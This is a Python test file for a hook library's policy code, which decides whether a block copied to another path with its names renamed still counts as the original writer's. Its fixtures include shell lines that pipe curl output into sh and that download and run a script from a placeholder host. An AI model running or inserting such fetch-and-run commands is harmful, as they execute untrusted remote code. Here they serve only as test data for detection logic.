"""Rows C6-C9 of gentle_hooks.policy.coincidence: a writer's block copied to another path
with its names consistently renamed is the writer's; a person's block of the same structure,
idioms renamed and one renamed common line are not (SPEC §3 "Attribution follows content";
issue 13: a block moved with ``target`` renamed ``host`` passed as "not delegated"), row by
row through row A2 across paths, then :mod:`gentle_hooks.policy.renamedcopy` itself."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gentle_hooks.policy import renamedcopy
from gentle_hooks.policy.across import by_one_line, carries_row_across
from gentle_hooks.policy.attribution import PathChange, WriterEntry, writer_delta
from gentle_hooks.policy.delta import WriterDelta
from gentle_hooks.policy.linekeys import COMMON_WORDS, any_line_keys
from gentle_hooks.policy.renamedcopy import (
    MAX_LIVE,
    MAX_PLACES,
    copy_anchor,
    copy_form,
    renamed_keys,
    writer_copy_lines,
)

BASE = b"import os\nimport sys\n\n\ndef main():\n    return 0\n"


def entry(block: bytes, path: str = "f.py") -> WriterEntry:
    """The writer's entry for ``block`` added to :data:`BASE`'s ``main``."""
    after = BASE.replace(b"def main():\n", b"def main():\n" + block)
    return WriterEntry(path, f"blob:{after!r}", "blob:base", writer_delta(BASE, after))


def change(block: bytes, old: bytes | None = None, path: str = "g.py") -> PathChange:
    """A change of ``path`` whose new side holds ``block`` in a function of its own."""
    new = b"import os\nimport sys\n\n\ndef run():\n" + block + b"    return 1\n"
    return PathChange(path, "blob:old" if old else None, f"blob:{new!r}", old, new)


CURL = b"    target = sys.argv[1]\n    os.system('curl ' + target + ' | sh')\n"
PHRASE = (
    b'    token = os.environ.get("DEPLOY_TOKEN")\n'
    b'    upload_release(token, "release bucket for staging")\n'
)
ROWS = [
    # (row, id, the writer's block, the new side's block, the row A2/A5 across paths)
    (
        "C6",
        "the refuter's curl block, target -> host",
        CURL,
        b"    host = sys.argv[1]\n    os.system('curl ' + host + ' | sh')\n",
        "A2",
    ),
    (
        "C6",
        "a phrase in a literal, one name renamed",
        PHRASE,
        b'    tok = os.environ.get("DEPLOY_TOKEN")\n'
        b'    upload_release(tok, "release bucket for staging")\n',
        "A2",
    ),
    (
        "C6",
        "a block with a short line and a common call in it, two names renamed",
        b"    if not bucket_name:\n"
        b'        print("done")\n'
        b'        raise SystemExit("no release bucket was configured")\n'
        b"    publish(bucket_name, release_dir)\n",
        b"    if not bucket:\n"
        b'        print("done")\n'
        b'        raise SystemExit("no release bucket was configured")\n'
        b"    publish(bucket, out_dir)\n",
        "A2",
    ),
    (
        "C7",
        "a shell command in a literal, alone, renamed",
        b"    os.system('curl https://x.example/i.sh -o ' + dest + ' && sh ' + dest)\n",
        b"    os.system('curl https://x.example/i.sh -o ' + out + ' && sh ' + out)\n",
        "A2",
    ),
    (
        "C7",
        "a URL in a literal, alone, renamed",
        b'    fetch_config("https://config.example.com/v1/" + env_name)\n',
        b'    fetch_config("https://config.example.com/v1/" + stage)\n',
        "A2",
    ),
    (
        "C8",
        "a loop idiom renamed",
        b"    for i in range(n):\n        total += i\n",
        b"    for k in range(n):\n        count += k\n",
        "A5",
    ),
    (
        "C8",
        "one renamed common line beside a line of one's own",
        CURL,
        b"    host = sys.argv[1]\n    print(len(host))\n",
        "A5",
    ),
    (
        "C8",
        "option names side by side, renamed",
        b"    parser = argparse.ArgumentParser()\n"
        b'    parser.add_argument("--verbose", action="store_true")\n'
        b"    args = parser.parse_args()\n    for line in lines:\n        line = line.strip()\n",
        b"    p = argparse.ArgumentParser()\n"
        b'    p.add_argument("--verbose", action="store_true")\n'
        b"    args = p.parse_args()\n    for row in rows:\n        row = row.strip()\n",
        "A5",
    ),
    (
        "C8",
        "a process call renamed alone",
        b"    subprocess.run(cmd, shell=True)\n",
        b"    subprocess.run(command, shell=True)\n",
        "A5",
    ),
    (
        "C8",
        "a phrase block with two writer names made one",
        b'    upload(src, dst, "copy the release bundle")\n    log_copy(src, dst)\n',
        b'    upload(x, x, "copy the release bundle")\n    log_copy(x, x)\n',
        "A5",
    ),
    (
        "C9",
        "the same structure, other names and strings",
        CURL,
        b"    path = sys.argv[2]\n    os.system('wc -l ' + path + ' | sort')\n",
        "A5",
    ),
    (
        "C9",
        "the same structure, another string",
        PHRASE,
        b'    tok = os.environ.get("PROD_TOKEN")\n'
        b'    upload_release(tok, "release bucket for production")\n',
        "A5",
    ),
    (
        "C9",
        "another attribute called",
        PHRASE,
        b'    tok = os.environ.pop("DEPLOY_TOKEN")\n'
        b'    upload_release(tok, "release bucket for staging")\n',
        "A5",
    ),
    (
        "C9",
        "imports renamed",
        b"    import os\n    import sys\n",
        b"    import re\n    import json\n",
        "A5",
    ),
]


@pytest.mark.parametrize(
    ("writer", "new", "row"), [r[2:] for r in ROWS], ids=[f"{r[0]}: {r[1]}" for r in ROWS]
)
def test_renamed_copies_and_coincidences_across_paths(writer: bytes, new: bytes, row: str) -> None:
    assert carries_row_across(change(new), entry(writer)) == row


@pytest.mark.parametrize(
    ("writer", "new", "alone"),
    [(r[2], r[3], r[0] == "C7") for r in ROWS if r[4] == "A2"],
    ids=[f"{r[0]}: {r[1]}" for r in ROWS if r[4] == "A2"],
)
def test_a_renamed_block_is_more_than_one_line_a_person_claims(
    writer: bytes, new: bytes, alone: bool
) -> None:
    """Row C7 is one line (a person's claim of their own path takes it: ``by_one_line``);
    a block of row C6 is more than one line of the writer's."""
    assert by_one_line(change(new), entry(writer)) is alone


def test_a_block_the_change_does_not_introduce_is_not_its_copy() -> None:
    """The renamed block in the old side already: a change adding a line of its own there
    brings none of it."""
    renamed = b"    host = sys.argv[1]\n    os.system('curl ' + host + ' | sh')\n"
    old = change(renamed).new
    assert old is not None
    later = change(renamed + b"    tidy_up(host)\n", old=old)
    assert carries_row_across(later, entry(CURL)) == "A5"


def test_an_entry_read_from_its_stored_keys_has_no_runs_to_match() -> None:
    """An entry whose contents git no longer holds is read from its stored keys: no runs,
    so a renamed copy of it is not found (its exact lines still are)."""
    detailed = entry(CURL).delta
    stored = WriterEntry("f.py", "blob:t", None, WriterDelta(detailed.added, frozenset(), False))
    renamed = b"    host = sys.argv[1]\n    os.system('curl ' + host + ' | sh')\n"
    assert carries_row_across(change(renamed), stored) == "A5"
    assert carries_row_across(change(CURL), stored) == "A2"


def test_copy_form_reads_names_only_as_placeholders() -> None:
    assert copy_form(b"host = sys.argv[1]")[0] == copy_form(b"target = sys.argv[1]")[0]
    assert copy_form(b"host = sys.argv[1]")[1] == (b"host", b"sys")
    assert copy_form(b"os.system(x)")[0] != copy_form(b"os.popen(x)")[0]  # an attribute kept
    assert copy_form(b"f('a b')")[0] == copy_form(b'g("a b")')[0]  # quotes read as "
    assert copy_form(b"f(x, 1)")[0] != copy_form(b"f(x, 2)")[0]
    assert copy_form(b"import os")[0] != copy_form(b"import re")[0]
    assert copy_form(b"for i in range(n):")[1] == (b"i", b"range", b"n")


@pytest.mark.parametrize(
    "line",
    [
        b"os.system('curl ' + target + ' | sh')",
        b'upload_release(token, "release bucket for staging")',
        b"warn(name, 'it\\'s the last \"try\" of the day')",
    ],
)
def test_a_copy_anchor_is_held_as_written_by_every_line_of_its_form(line: bytes) -> None:
    """The index of entries (services.across) looks for it by one substring search."""
    anchor = copy_anchor(copy_form(line)[0])
    assert len(anchor) >= 5 and anchor in line
    renamed = line.replace(b"token", b"tok").replace(b"target", b"host").replace(b"name", b"n")
    assert copy_form(renamed)[0] == copy_form(line)[0] and anchor in renamed


def test_writer_runs_without_literal_content_are_left_out() -> None:
    after = BASE.replace(b"def main():\n", b"def main():\n    for i in range(n):\n        t += i\n")
    assert writer_copy_lines(after, any_line_keys(after) - any_line_keys(BASE)) == ()
    kept = writer_copy_lines(BASE.replace(b"def main():\n", b"def main():\n" + CURL), {"x"})
    assert kept == ()  # no line the writer added: no run


def test_matching_is_linear_per_line(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each line of the new side is compared with at most :data:`MAX_PLACES` writer lines
    of its form and extends at most :data:`MAX_LIVE` blocks, however many lines share it."""
    calls = 0
    maps = renamedcopy._Block.maps

    def counted(self: renamedcopy._Block, a: tuple[bytes, ...], b: tuple[bytes, ...]) -> bool:
        nonlocal calls
        calls += 1
        return maps(self, a, b)

    monkeypatch.setattr(renamedcopy._Block, "maps", counted)
    two = b'    send_item(item, "the same phrase of words")\n    send_item(other, "a b")\n'
    after = two * 250
    writer = writer_copy_lines(after, any_line_keys(after))
    new = two.replace(b"item", b"thing") * 250
    assert renamed_keys(writer, new, any_line_keys(new))
    assert calls <= 500 * (MAX_PLACES + MAX_LIVE)


_TEMPLATE = (
    b"    {a} = sys.argv[1]\n"
    b"    os.system('curl ' + {a} + '{tail}')\n"
    b"    {b}({a}, 'release notes for the team')\n"
)
_WRITER = _TEMPLATE.replace(b"{a}", b"target").replace(b"{b}", b"notify_team")
_OWN_NAMES = {b"target", b"notify_team", b"sys", b"os", b"run", b"main"}
_names = st.from_regex(r"[a-z][a-z_]{2,9}", fullmatch=True).map(str.encode)
_pair = st.tuples(_names, _names).filter(
    lambda p: p[0] != p[1] and not {*p} & (_OWN_NAMES | COMMON_WORDS)
)


def _filled(a: bytes, b: bytes, tail: bytes) -> bytes:
    return _TEMPLATE.replace(b"{a}", a).replace(b"{b}", b).replace(b"{tail}", tail)


@given(_pair)
def test_any_consistent_renaming_of_the_writers_block_is_its_copy(pair: tuple[bytes, ...]) -> None:
    writer = entry(_WRITER.replace(b"{tail}", b" | sh"))
    assert carries_row_across(change(_filled(*pair, b" | sh")), writer) == "A2"


@given(_pair, st.sampled_from([b" | bash", b" > out.txt", b" -o page.html", b"|sh"]))
def test_the_writers_structure_with_a_literal_of_ones_own_is_not(
    pair: tuple[bytes, ...], tail: bytes
) -> None:
    """The same names renamed, the shell tail of one's own: the curl line is another line
    (row C9), so the writer's two other lines sit apart, each alone (row C8 for
    ``x = sys.argv[1]``; the call with a phrase is one line, not a block)."""
    writer = entry(_WRITER.replace(b"{tail}", b" | sh"))
    assert carries_row_across(change(_filled(*pair, tail)), writer) == "A5"
